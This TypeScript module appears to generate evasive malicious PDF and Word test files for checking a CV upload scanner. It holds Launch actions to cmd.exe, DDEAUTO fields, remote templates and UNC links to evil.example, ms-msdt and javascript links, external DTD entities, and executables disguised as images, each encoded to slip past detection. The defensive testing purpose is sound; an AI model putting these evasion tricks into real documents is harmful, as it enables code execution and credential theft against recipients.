import { deflateSync } from 'node:zlib'
import { buildDocx, buildPdf, type DocxParts, packed, relationTo } from '../cv-files.ts'
import { bytes, docx, type HostileFile, pdf } from './hostile-file.ts'

const script = '/S /JavaScript /JS (app.alert\\(1\\))'
const launch = '/S /Launch /F (cmd.exe)'

/** Replaces the text between the numbers of object 6 and its keyword. */
const apart = (between: string): Buffer =>
  bytes(
    buildPdf({ objects: [`<< ${launch} >>`] })
      .toString('latin1')
      .replace('6 0 obj', `6${between}0${between}obj`),
  )

/** PDFs with unusual notations of active content. */
export function evasivePdfs(): HostileFile[] {
  const hidden = {
    'a comment before the object': apart('%x\n'),
    'NUL before the object': apart('\0'),
    'a form feed before the object': apart('\f'),
    'a tabulator before the object': apart('\t'),
    'all characters as hex codes': buildPdf({ objects: ['<< /#53 /#4c#61#75#6e#63#68 /F (cmd.exe) >>'] }),
    'a comment between key and value': buildPdf({ objects: ['<< /S %(\n/Launch /F (x) >>'] }),
    'a bracket in a comment': buildPdf({ objects: [`<< % ((((\n ${launch} >>`] }),
    'an open hex text before it': buildPdf({ objects: [`<< /A <41 >\n ${launch} >>`] }),
    'an escaped bracket before it': buildPdf({ objects: [`<< /A (x\\\\) ${launch} /B (\\)) >>`] }),
    'a pack without its type': buildPdf({ objects: [packed('/N 1 /First 4', `9 0 << ${launch} >>`)] }),
    'a pack whose packing stands elsewhere': buildPdf({
      objects: [
        `<< /Type /ObjStm /N 1 /First 4 /Filter 7 0 R /Length 40 >>\nstream\n${deflateSync(bytes(`9 0 << ${launch} >>`)).toString('latin1')}\nendstream`,
        '/FlateDecode',
      ],
    }),
    'a pack in an early revision': Buffer.concat([
      buildPdf({ objects: [packed('/Type /ObjStm /N 1 /First 4', `9 0 << ${script} >>`)] }),
      buildPdf(),
    ]),
    'two revisions, the first acting': Buffer.concat([
      buildPdf({ objects: [`<< ${script} >>`] }),
      buildPdf(),
    ]),
    'a remote document at a click': buildPdf({
      page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0] >> >>]',
    }),
    'a film': buildPdf({
      page: '/Annots [<< /Subtype /Movie /Movie 6 0 R >>]',
      objects: ['<< /F (x.avi) >>'],
    }),
    'a sound': buildPdf({ page: '/Annots [<< /Subtype /Sound /Sound 6 0 R >>]', objects: ['<< /R 1 >>'] }),
    'an attachment on the page': buildPdf({ page: '/Annots [<< /Subtype /FileAttachment /FS 6 0 R >>]' }),
    'a portfolio': buildPdf({ catalogue: '/Collection << /View /T >>' }),
    'a model in space': buildPdf({ page: '/Annots [<< /Subtype /3D >>]' }),
    'actions of fields': buildPdf({
      catalogue: '/AcroForm << /Fields [6 0 R] >>',
      objects: ['<< /FT /Tx /T (a) /AA << /K << /S /Named /N /Print >> >> >>'],
    }),
  }
  const addresses = [
    'javascript:alert\\(1\\)',
    'JaVaScRiPt:alert\\(1\\)',
    ' javascript:alert\\(1\\)',
    'java\\163cript:alert\\(1\\)',
    'vbscript:msgbox',
    'data:text/html,x',
    'file://evil.example/share/x',
    '\\\\\\\\evil.example\\\\share',
    'ms-msdt:/id x',
    'search-ms:query=x',
  ]
  const hex = Buffer.from('javascript:alert(1)').toString('hex')
  const link = (address: string) =>
    buildPdf({ page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ${address} >> >>]` })
  return [
    ...Object.entries(hidden).map(([what, content]) => pdf(what, content)),
    ...addresses.map((address) => pdf(`a link to ${address}`, link(`(${address})`))),
    pdf('a link to a script in hex', link(`<${hex}>`)),
  ]
}

const fieldParts = (...codes: string[]): DocxParts => ({
  body: `<w:p>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:t>CV</w:t></w:r></w:p>`,
})

/** Word files with unusual notations of active content. */
export function evasiveDocx(): HostileFile[] {
  const namespace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const media = (name: string, content: string | Buffer): DocxParts => ({
    extra: [{ name: `word/media/${name}`, content }],
  })
  const link = (target: string) => relationTo('hyperlink', target, true)
  const kinds: Record<string, DocxParts> = {
    'a field in pieces': fieldParts('DD', 'EAUTO c:\\\\x.exe'),
    'a field with a comment inside': fieldParts('D<!-- x -->DEAUTO c:\\\\x.exe'),
    'a field as character data': fieldParts('<![CDATA[DDEAUTO c:\\\\x.exe]]>'),
    'a field in numbers': fieldParts('&#68;&#x44;EAUTO c:\\\\x.exe'),
    'a field with an instruction inside': fieldParts('D<?x y?>DEAUTO c:\\\\x.exe'),
    'a field that spells itself': fieldParts('QUOTE 68 68 69 65 85 84 79'),
    'a field that links a sheet': fieldParts('LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\x.xls"'),
    'a field between the quotes of two others': {
      body: ['\\o "', 'DDEAUTO c:\\x.exe', '"']
        .map(
          (code) =>
            `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>${code}</w:instrText><w:t>CV</w:t></w:r></w:p>`,
        )
        .join(''),
    },
    'a packed program as a picture': media('a.png', bytes('\x1f\x8b\x08')),
    'a field with an object': fieldParts('EMBED Package'),
    'a simple field in single quotes': {
      body: `<w:p><w:fldSimple w:instr='DDEAUTO c:\\x.exe'/><w:r><w:t>CV</w:t></w:r></w:p>`,
    },
    'a field under another prefix': {
      body: `<w:p><x:r xmlns:x="${namespace}"><x:instrText>DDEAUTO c:\\x.exe</x:instrText></x:r><w:r><w:t>CV</w:t></w:r></w:p>`,
    },
    'a relation in single quotes': {
      relations: relationTo('attachedTemplate', 'http://evil.example/x.dotm', true).replaceAll('"', "'"),
    },
    'a relation with an escaped target mode': {
      relations: relationTo('image', 'http://evil.example/x.png', true).replace('External', '&#69;xternal'),
    },
    'a template on a share': {
      relations: relationTo('attachedTemplate', 'file://evil.example/x.dotm', true),
    },
    'a template on a share, as Windows writes it': {
      relations: relationTo('attachedTemplate', '\\\\evil.example\\x.dotm', true),
    },
    'a main part of another ending': {
      without: 'word/document.xml',
      types: `<Override PartName="/word/text.dat" ContentType="${main}"/>`,
      extra: [
        {
          name: 'word/text.dat',
          content: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x">]><w:document xmlns:w="${namespace}"><w:t>CV</w:t></w:document>`,
        },
      ],
    },
    'a declaration in a header': {
      extra: [{ name: 'word/header1.xml', content: '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>' }],
    },
    'a declaration in the properties': {
      extra: [
        {
          name: 'docProps/core.xml',
          content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "x">%b;]><a/>',
        },
      ],
    },
    'a program as a picture': media('a.png', bytes('MZ\x90\0\x03')),
    'a program of another system as a picture': media('a.png', bytes('\x7fELF\x02')),
    'an archive as a picture': media('a.png', bytes('PK\x03\x04 and more')),
    'an old document as a picture': media('a.emf', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    'a PDF as a picture': media('a.jpeg', buildPdf()),
    'a page as a picture': media('a.gif', '<html><script>alert(1)</script>'),
    'a drawing that runs scripts': media(
      'a.svg',
      '<svg xmlns="x" onload="alert(1)"><script>1</script></svg>',
    ),
    'a drawing that reacts': media('a.svg', '<svg xmlns="x"><a href="javascript:alert(1)">x</a></svg>'),
    'a drawing that shows a page': media(
      'a.svg',
      '<svg xmlns="x"><foreignObject><iframe src="x"/></foreignObject></svg>',
    ),
    'an archive inside': { extra: [{ name: 'word/more.zip', content: buildDocx() }] },
    'a shortcut': { extra: [{ name: 'word/media/cv.lnk', content: 'x' }] },
    'a batch file': { extra: [{ name: 'word/media/cv.bat', content: 'x' }] },
    'an installer': { extra: [{ name: 'word/media/cv.msi', content: 'x' }] },
    'an extension of the ribbon': {
      extra: [{ name: 'customUI/customUI14.xml', content: '<customUI onLoad="x"/>' }],
    },
    'a link to a script': { relations: link('javascript:alert(1)') },
    'a link to a script in numbers': { relations: link('&#106;avascript:alert(1)') },
    'a link to a share': { relations: link('\\\\evil.example\\share') },
    'a link to a file elsewhere': { relations: link('file://evil.example/share/x') },
    'a link to a tool of Windows': { relations: link('ms-msdt:/id PCWDiagnostic') },
  }
  return Object.entries(kinds).map(([what, parts]) => docx(what, buildDocx(parts)))
}
